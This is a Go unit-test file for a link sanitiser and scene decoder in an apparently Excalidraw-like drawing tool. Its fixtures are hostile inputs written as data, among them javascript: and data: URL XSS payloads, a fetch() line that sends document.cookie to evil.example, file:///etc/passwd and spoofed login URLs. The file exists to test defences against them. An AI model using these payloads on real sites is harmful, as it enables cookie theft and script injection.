package scene

import (
	"strings"
	"testing"
)

func TestSafeLink(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://example.com/a?b=c#d", "https://example.com/a?b=c#d"},
		{"http://example.com", "http://example.com"},
		{"  HTTPS://Example.com/x ", "HTTPS://Example.com/x"},
		{"javascript:alert(1)", ""},
		{"JavaScript:alert(document.cookie)", ""},
		{"java\tscript:alert(1)", ""},
		{"\x01javascript:alert(1)", ""},
		{"javascript://example.com/%0Aalert(1)", ""},
		{"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""},
		{"file:///etc/passwd", ""},
		{"vbscript:msgbox(1)", ""},
		{"ftp://example.com/x", ""},
		{"//evil.example/x", ""},
		{"/relative/path", ""},
		{"[[README]]", ""},
		{"https://bank.example@evil.example/login", ""},
		{"https:evil.example", ""},
		{"https://exa mple.com", ""},
		{`https:\\evil.example`, ""},
		{"https://example.com/" + strings.Repeat("a", MaxLinkLength), ""},
		{"", ""},
	} {
		if got := SafeLink(tc.in); got != tc.want {
			t.Errorf("SafeLink(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestDecodeDropsUnsafeLinksAndFiles: an uploaded or browser-saved scene is untrusted. Decode
// keeps http(s) links, drops the rest (elements of every type, embeddables included), and drops
// files that would be fetched from a URL instead of being inline images.
func TestDecodeDropsUnsafeLinksAndFiles(t *testing.T) {
	doc := `{"type":"excalidraw","elements":[
	 {"id":"ok","type":"rectangle","link":"https://example.com/spec"},
	 {"id":"js","type":"rectangle","link":"javascript:fetch('https://evil.example/?c='+document.cookie)"},
	 {"id":"tx","type":"text","text":"click","link":"data:text/html,<script>alert(1)</script>"},
	 {"id":"em","type":"embeddable","link":"file:///etc/passwd"},
	 {"id":"im","type":"image","fileId":"f2","status":"saved"}],
	 "files":{"f1":{"id":"f1","mimeType":"image/png","dataURL":"data:image/png;base64,iVBORw0KGgo="},
	          "f2":{"id":"f2","mimeType":"image/png","dataURL":"https://evil.example/track.png"},
	          "f3":"not an object"}}`
	s, err := Decode([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, e := range s.Elements() {
		got[e.ID] = e.Link
	}
	want := map[string]string{"ok": "https://example.com/spec", "js": "", "tx": "", "em": "", "im": ""}
	for id, w := range want {
		if got[id] != w {
			t.Errorf("%s: link %q, want %q", id, got[id], w)
		}
	}
	out, err := s.Encode()
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"javascript:", "data:text/html", "file:", "evil.example", "not an object"} {
		if strings.Contains(string(out), bad) {
			t.Errorf("encoded scene still holds %q", bad)
		}
	}
	if !strings.Contains(string(out), "data:image/png;base64") {
		t.Errorf("the inline image file was dropped too")
	}
}
